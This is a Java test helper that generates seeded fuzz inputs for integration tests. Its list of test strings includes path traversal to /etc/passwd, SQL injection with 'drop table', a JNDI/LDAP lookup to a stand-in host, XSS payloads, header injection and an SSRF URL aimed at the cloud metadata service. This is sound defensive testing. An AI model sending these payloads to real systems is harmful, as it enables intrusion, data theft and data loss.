package org.tandem.tool.it;

import jakarta.json.Json;
import jakarta.json.JsonValue;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;

/**
 * Values that nobody expects: too long, too deep, of another kind, in characters that mean
 * something to somebody. The same seed gives the same values in the same order.
 */
public final class Noise {
  /** What must never stand in a page as it is. */
  public static final String SCRIPT = "<script>noise()</script>";

  private static final List<String> TEXTS =
      List.of(
          "",
          " ",
          "null",
          "-1",
          "9".repeat(40),
          "1e999",
          "true",
          "a".repeat(5_000),
          "\u0000",
          "a\r\nSet-Cookie: noise=1",
          "../../../../etc/passwd",
          "..%2f..%2f",
          "%",
          "%zz",
          "' or '1'='1",
          "\";drop table person;--",
          "${jndi:ldap://noise.example/a}",
          "#{7*7}",
          "{{7*7}}",
          SCRIPT,
          "\"><img src=x onerror=noise()>",
          "javascript:noise()",
          "http://169.254.169.254/latest/meta-data/",
          "file:///etc/passwd",
          "\u202egnp.exe",
          "\ud83d\ude00",
          "\ud800",
          "00000000-0000-0000-0000-000000000000",
          "2026-02-30T25:61:00Z",
          "[[[[[[[[[[[[[[[[[[[[",
          "{\"a\":{\"a\":{\"a\":1}}}",
          "eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.",
          "a.b.c",
          "....");

  /** What means something in a file. */
  private static final List<String> MARKS =
      List.of("\"", "'", "{", "}", "[", "]", ":", ",", "&a ", "*a", "!!x ", "\n", "\t", "\\", "#");

  private final Random random;

  /** Noise of this seed. */
  public Noise(long seed) {
    this.random = new Random(seed);
  }

  /** Any text. */
  public String text() {
    return TEXTS.get(random.nextInt(TEXTS.size()));
  }

  /** Any text as a part of an address. */
  public String encoded() {
    return URLEncoder.encode(text(), StandardCharsets.UTF_8).replace("+", "%20");
  }

  /** One of these. */
  public <T> T oneOf(List<T> some) {
    return some.get(random.nextInt(some.size()));
  }

  /** Any JSON. */
  public JsonValue json() {
    return switch (random.nextInt(8)) {
      case 0 -> JsonValue.NULL;
      case 1 -> JsonValue.TRUE;
      case 2 -> Json.createValue(random.nextLong());
      case 3 -> JsonValue.EMPTY_JSON_ARRAY;
      case 4 -> JsonValue.EMPTY_JSON_OBJECT;
      case 5 -> deep(200);
      case 6 -> Json.createArrayBuilder().add(text()).add(random.nextInt()).build();
      default -> Json.createValue(text());
    };
  }

  /** A text with one to three characters changed, each surely into another one. */
  public String changed(String text) {
    StringBuilder changed = new StringBuilder(text);
    for (int i = 0; i <= random.nextInt(3); i++) {
      int at = random.nextInt(changed.length());
      changed.setCharAt(at, changed.charAt(at) == '~' ? '!' : '~');
    }
    return changed.toString();
  }

  /** A text of which pieces were cut, doubled, or replaced by noise, up to four times. */
  public String mangled(String text) {
    StringBuilder mangled = new StringBuilder(text);
    for (int i = 0; i <= random.nextInt(4); i++) {
      int from = random.nextInt(mangled.length() + 1);
      int to = Math.min(mangled.length(), from + random.nextInt(40));
      switch (random.nextInt(5)) {
        case 0 -> mangled.setLength(from);
        case 1 -> mangled.insert(from, mangled.substring(from, to));
        case 2 -> mangled.delete(from, to);
        case 3 -> mangled.replace(from, to, text());
        default -> mangled.insert(from, oneOf(MARKS));
      }
    }
    return mangled.toString();
  }

  /** The same of bytes. */
  public byte[] mangled(byte[] bytes) {
    return mangled(new String(bytes, StandardCharsets.ISO_8859_1))
        .getBytes(StandardCharsets.ISO_8859_1);
  }

  /** Any bytes, also none. */
  public byte[] bytes() {
    byte[] bytes = new byte[oneOf(List.of(0, 1, 100, 2_000))];
    random.nextBytes(bytes);
    return bytes;
  }

  private static JsonValue deep(int levels) {
    JsonValue value = JsonValue.TRUE;
    for (int i = 0; i < levels; i++) {
      value = Json.createArrayBuilder().add(value).build();
    }
    return value;
  }
}
